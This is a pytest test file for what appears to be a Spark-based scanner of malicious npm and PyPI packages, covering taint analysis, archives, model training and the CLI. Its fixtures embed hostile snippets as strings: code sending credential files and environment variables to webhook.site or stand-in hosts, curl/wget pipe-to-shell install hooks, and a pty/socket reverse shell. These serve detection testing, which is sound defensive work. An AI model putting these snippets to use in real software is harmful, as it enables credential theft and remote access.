"""The package engine, taint, tokens of JavaScript, archives, model jobs: known answers."""

import io
import json
import tarfile
import zipfile

import pytest
from pyspark.sql import functions as F

from larkspur import api, cli, drivers
from larkspur.functions import versions as V
from larkspur.operators import evaluation, features, history, ml, signals
from larkspur.sources import advisories, archives, javascript, python_ast, shipped, store
from larkspur.streaming import progress


def codes(rows):
    out = {}
    for r in rows:
        out.setdefault(r["package"], set()).add(r["code"])
    return out


def flows(source):
    return [(r[1], r[2], r[3], r[4]) for r in python_ast.analyse(source) if r[0] == "flow"]


SECRET = 'import os, requests\nv0 = os.environ["API_KEY"]\n'


def test_taint_along_twelve_names():
    chain = "".join(f"v{i} = v{i - 1} + 'x'\n" for i in range(1, 13))
    assert flows(SECRET + chain + "requests.post(u, data={'k': v12})\n") == [("requests.post", "<module>", 15, "env@2")]
    backward = "".join(f"v{i} = v{i - 1}\n" for i in range(12, 0, -1))
    assert len(flows(SECRET + backward + "requests.post(u, v12)\n")) == 1


def test_taint_of_plain_names_only():
    assert flows(SECRET + "o.k = v0\nrequests.post(u, data=o)\n") == []
    assert flows(SECRET + "a, b = v0, 1\nrequests.post(u, data=b)\n") == []
    assert flows(SECRET + "requests.options(u, data=v0)\n") == [("requests.options", "<module>", 3, "env@2")]
    assert flows("import os, requests\nrequests.post(u, data=os.environ['API_KEY'])\n") == []


def test_taint_scopes_and_reads():
    held = "import httpx\ndef f():\n    with open('~/.aws/credentials') as h:\n        t = h.read()\n    try:\n        httpx.post('u', content=t)\n    except E:\n        pass\n"
    assert flows(held) == [("httpx.post", "f", 6, "file@3")]
    apart = "import os, requests\ndef f():\n    k = os.getenv('MY_PASSWORD')\ndef g():\n    requests.get(k)\n"
    assert flows(apart) == []
    one = SECRET + "requests.post(v0, v0, k=v0)\nprint(v0)\n"
    assert len(flows(one)) == 1


def test_javascript_tokens():
    facts = javascript.analyse("const {exec: run} = require('child_process'); // exec('no')\nrun(`ls ${x}`); /* eval(1) */ var r = /['\"`]/g, d = a / b / c; import z, {q as w} from \"dns\"; w(h + 1); z.lookup(h);")
    calls = [(r[1], r[3]) for r in facts if r[0] == "call" and r[1] != "require"]
    assert calls == [("child_process.exec", "computed"), ("dns.q", "computed"), ("dns.lookup", "computed")]
    assert [r[3] for r in facts if r[0] == "literal"] == ["child_process", "ls ", "dns"]
    for broken in ("f((", "'open", "`open", "}", "a b", "x = ;", "class {"):
        assert javascript.analyse(broken) == [("parse_failed", None, 0, ""), ("literal", None, 0, broken)]
    assert javascript.analyse("[" * 400 + "]" * 400)[0][0] == "parse_failed"
    assert [r[3] for r in javascript.analyse(r"x('\x41\u0042\n')") if r[0] == "literal"] == ["AB\n"]


def test_engine_known_answers(spark):
    files = [
        ("doc", "pkg/a.py", 'def area(w, h):\n    """Never calls exec(), os.popen() or subprocess.call()."""\n    # exec(w)\n    return w * h\n'),
        ("steal", "pkg/up.py", "import http.client, pathlib\nwith open(str(pathlib.Path.home()) + '/.docker/config.json') as f:\n    body = f.read()\nhttp.client.HTTPSConnection('https://93.184.216.34/', body)\n"),
        ("lib", "setup.py", "import setuptools\nabout = {}\nexec(compile(open('about.txt').read(), 'about', 'exec'), about)\nsetuptools.setup(**about)\n"),
        ("bad", "setup.py", "import os, platform, requests\nimport setuptools\nrequests.put('https://e.example', json={'n': platform.node(), 'e': os.environ.copy()})\nsetuptools.setup(name='bad', cmdclass={'install': X})\n"),
        ("hook", "scripts/run.js", "const https = require('https');\nhttps.get('https://e.example/?' + process.env.TOKEN);"),
        ("shell", "s.py", "import pty, socket\nc = socket.create_connection((h, 4444))\npty.spawn('/bin/bash')\n"),
        ("skip", "node_modules/x/a.py", "eval(x)"),
        ("skip", "site-packages/a.py", "eval(x)"),
        ("skip", ".git/a.py", "eval(x)"),
        ("broken", "a.py", "def (((( not python, no eval(x)"),
    ]
    hooks = spark.createDataFrame([("hook", "node ./scripts/run.js"), ("curl", "wget -qO- https://e.example/i | sh")], "package string, command string")
    f = spark.createDataFrame(files, "package string, path string, text string")
    got = codes(api.analyse(f, hooks).collect())
    assert got.get("doc") is None and got.get("skip") is None and got.get("broken") is None
    assert got["steal"] == {"SENSITIVE_PATH_ACCESS", "NETWORK_ACCESS", "HARDCODED_IP_ENDPOINT", "EXFIL_CREDENTIALS_TO_NETWORK", "CONFIRMED_CREDENTIAL_EXFILTRATION"}
    assert got["lib"] == {"DYNAMIC_EVAL", "SETUP_PY_SIDE_EFFECTS"}
    assert {"EXFIL_ON_INSTALL", "EXFIL_ENV_TO_NETWORK", "SETUP_PY_SIDE_EFFECTS", "HOST_RECON"} <= got["bad"]
    assert {"EXFIL_ON_INSTALL", "EXFIL_ENV_TO_NETWORK", "INSTALL_HOOK_PRESENT"} <= got["hook"]
    assert got["curl"] == {"INSTALL_HOOK_PRESENT", "INSTALL_HOOK_SHELL_PIPE", "INSTALL_HOOK_NETWORK", "PROCESS_SPAWN"}
    assert "REVERSE_SHELL_PATTERN" in got["shell"]
    verdicts = {r["package"]: r["verdict"] for r in api.score(f, hooks=hooks).collect()}
    assert verdicts["steal"] == verdicts["bad"] == "malicious" and verdicts["doc"] == "benign"
    assert {tuple(r) for r in api.failed(f).collect()} == {("broken", "a.py")}


def test_literals_are_searched_to_their_ends(spark):
    """What lies beyond 4000 characters of a literal, or 20 000 of a script that has no tree, and in scripts of any size."""
    late = "x " * 3000 + "~/.aws/credentials https://8.8.4.4/a metamask"
    files = [
        ("py", "a.py", f"x = '{late}'\n"),
        ("js", "a.js", f"const x = '{late}';\n"),
        ("broken", "a.js", "x = ;" + " y" * 15_000 + f" '{late}'"),
        ("long", "a.js", "// a line of a comment\n" * 50_000 + "eval(x);\n"),
        ("minified", "a.js", "a=1;" * 80_000 + "eval(x);"),
    ]
    got = codes(api.analyse(spark.createDataFrame(files, "package string, path string, text string")).collect())
    for package in ("py", "js", "broken"):
        assert {"SENSITIVE_PATH_ACCESS", "CRYPTO_WALLET_ACCESS", "HARDCODED_IP_ENDPOINT"} <= got[package], package
    assert got["long"] == {"DYNAMIC_EVAL"} and got["minified"] == {"DYNAMIC_EVAL", "MINIFIED_SOURCE"}


def test_all_files_of_a_package_are_analysed(spark):
    """More than 3000 of them, and ones above 2 MB; those of the last paths count in scores and explanations."""
    calm = spark.range(3100).selectExpr("'many' AS package", "concat('a', lpad(id, 5, '0'), '.py') AS path", "'x = 1' AS text")
    large = ["# " + "x" * 99 + "\n"] * 22_000
    more = [("many", "z.py", "import os\nos.system('x')\n"), ("many", "zz.py", "def ("), ("large", "a.py", "".join([*large, "eval(y)\n"])), ("large", "none.py", None)]
    files = calm.unionByName(spark.createDataFrame(more, "package string, path string, text string"))
    assert {(r["package"], r["n"]) for r in api.sources(files).groupBy("package").agg(F.count("*").alias("n")).collect()} == {("many", 3102), ("large", 1)}
    found = api.analyse(files)
    assert {(r["package"], r["path"], r["code"]) for r in found.collect()} == {("many", "z.py", "PROCESS_SPAWN"), ("large", "a.py", "DYNAMIC_EVAL")}
    assert {tuple(r) for r in api.failed(files).collect()} == {("many", "zz.py")}
    packages = spark.createDataFrame([("many", "1", "benign"), ("large", "1", "benign")], "package string, version string, verdict string")
    squats = spark.createDataFrame([], "package string, target string")
    texts = {r["package"]: r["explanation"] for r in history.explanations(packages, found, squats).collect()}
    assert "process spawn in z.py" in texts["many"] and "dynamic eval in a.py" in texts["large"]


def test_a_text_of_many_files_is_analysed_once(spark, monkeypatch):
    text, script = "import os\nos.system('x')\n", "eval(x);"
    files = [(f"p{i}", path, t) for i in range(5) for path, t in (("a.py", text), ("lib/b.py", text), ("setup.py", text), ("c.py", "def ("), ("run.js", script))]
    files += [("twice", "a.py", text), ("twice", "a.py", "eval(y)"), ("p0", "tests/a.py", text), ("p1", "none.py", None)]
    f = spark.createDataFrame(files, "package string, path string, text string")
    parsed = {}
    for module in (python_ast, javascript):

        def facts(rows, made=module.facts, name=module.__name__):
            parsed.setdefault(name, []).append(rows.count())
            return made(rows)

        monkeypatch.setattr(module, "facts", facts)
    got = sorted(tuple(r) for r in api.analyse(f).select("package", "path", "code", "line").collect())
    spawn, side, call = ("PROCESS_SPAWN", 2), ("SETUP_PY_SIDE_EFFECTS", 2), ("DYNAMIC_EVAL", 1)
    one = [("a.py", *spawn), ("lib/b.py", *spawn), ("run.js", *call), ("setup.py", *spawn), ("setup.py", *side)]
    assert got == sorted([(f"p{i}", *r) for i in range(5) for r in one] + [("twice", "a.py", *spawn), ("twice", "a.py", *call)])
    assert {tuple(r) for r in api.failed(f).collect()} == {(f"p{i}", "c.py") for i in range(5)}
    assert parsed == {python_ast.__name__: [4, 4], javascript.__name__: [1, 1]}


def test_harmonic_numbers_meet_at_the_bound(spark):
    ns = [1, 2, 10, signals.TERMS, signals.TERMS + 1, 5000]
    rows = spark.createDataFrame([(n,) for n in ns], "n long").select("n", signals.harmonic(F.col("n")).alias("h")).collect()
    for r in rows:
        assert abs(r["h"] - sum(1 / k for k in range(1, r["n"] + 1))) < 1e-12
    assert spark.range(1).select(signals.harmonic(F.lit(10**15))).first()[0] < 40


def test_ranges_of_large_parts(spark):
    rows = [("0.20240101.0", ">=1.0.0", False), ("0.20240101.0", "^0.20240101.0", True), ("1.99999999.5", "<2.0.0", True), ("20240101.0.0", "~20240101.0.0", True), ("20240102.0.0", "20240101.x", False)]
    for r in spark.createDataFrame(rows, "v string, r string, want boolean").select("*", V.satisfies(F.col("v"), F.col("r")).alias("got")).collect():
        assert r["got"] == r["want"], r


def _tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_archives_to_features(spark):
    manifest = json.dumps({"description": "d", "scripts": {"postinstall": "node run.js"}, "dependencies": {"a": "1"}}).encode()
    good = _tar({"package/package.json": manifest, "package/run.js": b"fetch('https://webhook.site/a', process.env)", "package/logo.png": b"x", "../evil.py": b"eval(x)"})
    rows = spark.createDataFrame([("good", good), ("torn", good[: len(good) // 2]), ("none", b"no archive")], "archive string, content binary")
    members = archives.members(rows)
    v = {r["package"]: r for r in drivers.featurised(members, "npm").collect()}
    assert v["good"]["error"] is None and v["good"]["install_hook_present"] > 0 and v["good"]["suspicious_endpoint"] > 0 and v["good"]["exfil_on_install"] > 0
    assert v["good"]["tiny_package_with_hook"] == 1.0 and v["good"]["file_count"] > 0
    assert v["none"]["error"] == "unreadable" and v["none"]["total_signals"] == 0.0
    assert set(features.NAMES) <= set(drivers.featurised(members, "npm").columns)


def test_zip_headers_that_lie_are_cut(monkeypatch):
    monkeypatch.setattr(archives, "MAX_FILE", 1000)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.py", b"x" * 5000)
        z.writestr("b.py", b"y = 1")
    data = bytearray(out.getvalue())
    central = data.index(b"PK\x01\x02")
    data[central + 24 : central + 28] = (10).to_bytes(4, "little")
    rows = list(archives.extract("z", bytes(data)))
    assert all(len(r[4] or b"") <= 1000 for r in rows)


def test_encrypted_samples(spark):
    # Made with the classic cipher of zip archives; the password is the usual one of sample corpora.
    key = [0x12345678, 0x23456789, 0x34567890]
    import zlib as z

    table = [next(c for c in [i]) for i in range(256)]
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ 0xEDB88320 if c & 1 else c >> 1
        table[i] = c

    def update(b):
        key[0] = (key[0] >> 8) ^ table[(key[0] ^ b) & 255]
        key[1] = ((key[1] + (key[0] & 255)) * 134775813 + 1) & 0xFFFFFFFF
        key[2] = (key[2] >> 8) ^ table[(key[2] ^ (key[1] >> 24)) & 255]

    def encrypt(data):
        out = bytearray()
        for b in data:
            t = key[2] | 2
            out.append(b ^ ((t * (t ^ 1) >> 8) & 255))
            update(b)
        return bytes(out)

    for b in b"infected":
        update(b)
    text = b"import os\nos.system(x)\n"
    crc = z.crc32(text)
    body = encrypt(bytes(11) + bytes([crc >> 24]) + text)
    name = b"w1/w2/a.py"
    head = (20).to_bytes(2, "little") + (1).to_bytes(2, "little") + bytes(2) + bytes(4) + crc.to_bytes(4, "little") + len(body).to_bytes(4, "little") + len(text).to_bytes(4, "little") + len(name).to_bytes(2, "little") + bytes(2)
    local = b"PK\x03\x04" + head + name + body
    central = b"PK\x01\x02" + (20).to_bytes(2, "little") + head + bytes(2) + bytes(2) + bytes(2) + bytes(4) + bytes(4) + name
    data = local + central + b"PK\x05\x06" + bytes(4) + (1).to_bytes(2, "little") * 2 + len(central).to_bytes(4, "little") + len(local).to_bytes(4, "little") + bytes(2)
    rows = spark.createDataFrame([("s", data)], "archive string, content binary")
    got = archives.samples(rows).collect()
    assert [(r["path"], bytes(r["content"])) for r in got] == [("a.py", text)]
    assert [r["truncated"] for r in archives.members(rows, "wrong").collect()] == ["unreadable"]
    assert codes(api.analyse(archives.source_files(archives.samples(rows))).collect()) == {"s": {"PROCESS_SPAWN"}}


def _matrix(spark, n=120):
    cols = {c: 0.0 for c in features.NAMES}
    rows = [{"sample_id": f"s{i}", "label": i % 2, "group": f"g{i % 12}", **cols, "total_signals": (i % 2) * 2.0 + (i % 5) / 10, "rules_baseline_score": 0.3 + 0.4 * (i % 2)} for i in range(n)]
    return spark.createDataFrame(rows).select("sample_id", "label", "group", *features.NAMES)


def test_train_evaluate_and_load(spark, tmp_path):
    path = str(tmp_path / "m.csv")
    _matrix(spark).coalesce(1).write.option("header", True).csv(path)
    seen = []
    metrics = drivers.train_and_evaluate(spark, path, str(tmp_path / "out"), k=3, trees=5, progress=progress.Progress(["read", "evaluate", "train", "write"], lambda s, share: seen.append((s, share))))
    assert metrics["f1"] == 1.0 and metrics["baseline"]["f1"] == 1.0 and metrics["folds"] == 3
    assert seen[0] == ("read", 0.0) and seen[-1] == ("write", 1.0)
    model = drivers.load_model(spark, str(tmp_path / "out"))
    got = drivers.scored(model, _matrix(spark)).groupBy("label", "verdict", "score_source").count().collect()
    assert {(r["label"], r["verdict"], r["score_source"]) for r in got} == {(0, "benign", "model"), (1, "malicious", "model")}
    assert drivers.load_model(spark, str(tmp_path / "nowhere")) is None
    assert {r["score_source"] for r in drivers.scored(None, _matrix(spark)).collect()} == {"rules"}
    with pytest.raises(ValueError, match="features"):
        drivers.load_model(spark, str(tmp_path / "out"), ["one"])


def test_ablation_feature_sets_variants_and_calibration(spark):
    rows = _matrix(spark).withColumnRenamed("group", "grp")
    groups = {"aggregate": ["total_signals"], "other": ["rules_baseline_score"]}
    got = {r["ablated"]: r["f1"] for r in evaluation.ablation(rows.withColumn("rules_baseline_score", F.lit(0.5)), groups, 3, 3).collect()}
    assert got["none"] == got["other"] == 1.0 and got["aggregate"] < 1.0
    sets = {r["feature_set"]: r["f1"] for r in evaluation.feature_sets(rows, {"signals": ["total_signals"], "noise": ["file_count"]}, 3, 3).collect()}
    assert sets["signals"] == 1.0 and sets["noise"] < 1.0
    model = ml.train(rows, ["total_signals"], 5)
    flags = {r["variant"]: r["malicious"] for r in evaluation.variants(model, rows, ["total_signals"], {"as is": [], "zeroed": ["total_signals"]}).collect()}
    assert flags == {"as is": 60, "zeroed": 0}
    scored = evaluation.Calibrated(rows, ["total_signals"], 3, 3).transform(rows)
    by = {r["label"]: (r["lo"], r["hi"]) for r in scored.groupBy("label").agg(F.min("score").alias("lo"), F.max("score").alias("hi")).collect()}
    assert by[0][1] < 0.1 and by[1][0] > 0.9


def test_detectors_and_jobs(spark):
    cases = spark.createDataFrame([("new", True, True), ("new", False, False), ("old", True, False), ("old", False, True)], "detector string, expected boolean, raised boolean")
    assert {tuple(r) for r in evaluation.detector_comparison(cases).collect()} == {("new", 1, 0, 0), ("old", 0, 1, 1)}
    assert history.without_key({"a": [{"x": 1, "b": 2}], "x": 3}, "x") == {"a": [{"b": 2}]}
    assert history.parse_object('```json\n{"a": 1}\n```') == {"a": 1}
    with pytest.raises(ValueError):
        history.parse_object("[1]")


def test_project_findings(spark):
    doc = lambda i, fixed: json.dumps({"id": i, "aliases": ["CVE-1"], "summary": "see `parse()`", "severity": [{"score": "7.5"}], "affected": [{"package": {"name": "Lib"}, "ranges": [{"events": [{"introduced": "0"}, {"fixed": fixed}]}]}]})
    packages = spark.createDataFrame([("npm", "lib", "1.0.0"), ("npm", "far", "2.0.0")], "ecosystem string, name string, version string")
    ids = spark.createDataFrame([("npm", "lib", "1.0.0", "A"), ("npm", "lib", "1.0.0", "B"), ("npm", "far", "2.0.0", "A")], "ecosystem string, name string, version string, id string")
    documents = spark.createDataFrame([("A", doc("A", "1.2.0")), ("B", doc("B", "1.3.0"))], "id string, text string")
    edges = spark.createDataFrame([("app", "lib")], "src string, dst string")
    got = drivers.project_findings(packages, ids, documents, edges, spark.createDataFrame([("app",)], "node string"), spark.createDataFrame([("lib", "parse")], "package string, symbol string")).collect()
    assert {(r["package"], r["verdict"], r["reachable"]) for r in got} == {("lib", "reachable", True), ("far", "not_imported", False)} and len(got) == 2
    assert {r["severity"] for r in got} == {"HIGH"} and {r["symbol_confidence"] for r in got} == {"parsed"}
    broken = advisories.parse(spark.createDataFrame([("npm", "x", "no json"), ("npm", "x", None)], "ecosystem string, package string, text string")).collect()
    assert [(r["id"], r["severity"], r["symbol_confidence"]) for r in broken] == [("UNKNOWN", "UNKNOWN", "none")] * 2


def test_command_line(spark, tmp_path, capsys):
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "a.py").write_text("import requests\nd = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://webhook.site/x', data=d)\n")
    (tmp_path / "app" / "package.json").write_text('{"dependencies": {"left-pad": "^1"}}')
    assert cli.main(["version"]) == 0
    assert cli.main(["scan-project", str(tmp_path / "app"), "--report", str(tmp_path / "r.html")], spark) == 0
    assert cli.main(["scan-manifest", str(tmp_path / "app" / "package.json")], spark) == 0
    (tmp_path / "p.tgz").write_bytes(_tar({"package/package.json": b'{"scripts":{"install":"curl http://x | sh"}}', "package/i.js": b"1"}))
    assert cli.main(["scan-package", str(tmp_path / "p.tgz")], spark) == 0
    said = capsys.readouterr().out
    assert "app\tmalicious" in said and "left-pad\t^1\truntime" in said and "p.tgz\tmalicious" in said
    assert "<table>" in (tmp_path / "r.html").read_text()


def test_shipped_metadata_of_odd_documents(spark):
    files = [("a", "package.json", '{"repository": {"url": ""}, "scripts": [1], "description": 5}'), ("b", "package.json", "no json"), ("c", "x/package.json", '{"description": "deep"}'), ("c", "package.json", '{"description": "top"}')]
    got = {r["package"]: r for r in shipped.npm(spark.createDataFrame(files, "package string, path string, text string")).collect()}
    assert got["c"]["description"] == "top" and got["b"]["description"] is None and got["a"]["repository_url"] is None
    assert store.report(spark.createDataFrame([("<b>", 0.5)], "package string, score double"), "t").count("<b>") == 0


def test_store_puts_once_and_gets(spark, tmp_path):
    path = str(tmp_path / "vault")
    rows = spark.createDataFrame([("a", "malicious", "npm", b"one"), ("b", "benign", "npm", b"two"), ("c", "benign", "pypi", b"one")], "name string, label string, ecosystem string, content binary")
    assert store.put(spark, path, rows).count() == 2
    assert store.put(spark, path, rows).count() == 0
    more = spark.createDataFrame([("d", "benign", "pypi", b"three")], rows.schema)
    assert [r["name"] for r in store.put(spark, path, more.unionByName(rows)).collect()] == ["d"]
    kept = spark.read.parquet(path)
    assert kept.count() == 3 and store.vault_problems(kept.select("sample_id", "sha256", "content")).count() == 0
    one = kept.where("name = 'd'").first()["sample_id"]
    assert [bytes(r["content"]) for r in store.get(spark, path, [one]).collect()] == [b"three"]


def test_scans_are_replaced_loaded_and_deleted(spark, tmp_path):
    path = str(tmp_path / "scans")
    scan = lambda i, n: spark.createDataFrame([(i, f"p{k}") for k in range(n)], "scan_id string, package string")
    store.upsert_scans(spark, path, scan("a", 2).unionByName(scan("b", 3)))
    store.upsert_scans(spark, path, scan("a", 4))
    assert store.load_scan(spark, path, "a").count() == 4 and store.load_scan(spark, path, "b").count() == 3
    assert store.delete_scan(spark, path, "b") and not store.delete_scan(spark, path, "b")
    assert spark.read.parquet(path).count() == 4


def test_matrix_is_written_as_it_is_read(spark, tmp_path):
    store.write_matrix(_matrix(spark, 10), str(tmp_path), features.NAMES)
    back = store.read_matrix(spark, str(tmp_path / "features"), features.NAMES)
    assert sorted(back.select("sample_id", "total_signals").collect()) == sorted(_matrix(spark, 10).select("sample_id", "total_signals").collect())
    assert spark.read.json(str(tmp_path / "samples")).count() == 10


def test_registry_documents_from_a_folder(spark, tmp_path):
    from larkspur.sources import registry

    (tmp_path / "n").mkdir()
    (tmp_path / "n" / "a.json").write_text('{"name": "a",\n "versions": {"1.0.0": {"dependencies": {"b": "^1"}}}}')
    (tmp_path / "n" / "note.txt").write_text("no document")
    docs = registry.snapshots(spark, str(tmp_path))
    assert [tuple(r) for r in registry.npm_dependencies(docs).collect()] == [("a", "1.0.0", "b", "^1")]


def test_lists_of_stored_scans(spark):
    found = spark.createDataFrame([("A", "HIGH", 7.5, True), ("B", "LOW", None, False), ("C", "CRITICAL", 9.9, False)], "id string, severity string, cvss double, reachable boolean")
    assert [r["id"] for r in history.vulnerability_list(found).collect()] == ["A", "C", "B"]
    assert [r["id"] for r in history.vulnerability_list(found, False, 1).collect()] == ["C"]
    packages = spark.createDataFrame([("a", None, 3), ("b", "torn", 3), ("c", None, 0)], "package string, error string, files int")
    assert [r["package"] for r in history.analysed(packages).collect()] == ["a"]


def test_streams_and_progress_call_back():
    seen = []
    listener = progress.StreamProgress(lambda kind, n: seen.append((kind, n)))

    class Event:
        class progress:  # noqa: N801
            numInputRows = 7

    listener.onQueryStarted(None)
    listener.onQueryProgress(Event)
    listener.onQueryTerminated(None)
    assert seen == [("started", 0), ("progress", 7), ("ended", 0)]
